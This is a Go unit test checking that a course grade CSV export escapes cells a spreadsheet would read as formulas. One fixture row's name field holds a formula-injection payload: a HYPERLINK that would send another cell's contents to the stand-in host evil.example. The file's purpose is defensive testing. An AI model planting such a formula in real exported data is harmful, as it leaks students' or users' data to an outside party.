package course

import (
	"encoding/csv"
	"strings"
	"testing"
)

// A name or address that a spreadsheet would read as a formula is written
// as text (#16 case 5); others, and the numbers, are as they were.
func TestGradesCSVHoldsNoFormula(t *testing.T) {
	rows := []ExportRow{
		{Username: "mal", FullName: `=HYPERLINK("http://evil.example/?"&A2,"x")`, Email: "+1@example.edu", Score: -1, MaxScore: 6, Status: "graded"},
		{Username: "ann", FullName: "Ann O'Neil", Email: "ann@example.edu", Score: 6, MaxScore: 6, Status: "graded"},
		{Username: "at", FullName: "@SUM(1)", Email: "-x@example.edu"},
	}
	var b strings.Builder
	if err := WriteGrades(&b, rows, "csv"); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs[1:] {
		for i, cell := range rec[:3] {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("column %s of %s starts a formula: %q", ExportColumns[i], rec[0], cell)
			}
		}
	}
	if recs[1][1] != `'=HYPERLINK("http://evil.example/?"&A2,"x")` || recs[1][3] != "-1" || recs[2][1] != "Ann O'Neil" {
		t.Errorf("cells changed more than needed: %q", recs[1:])
	}
}
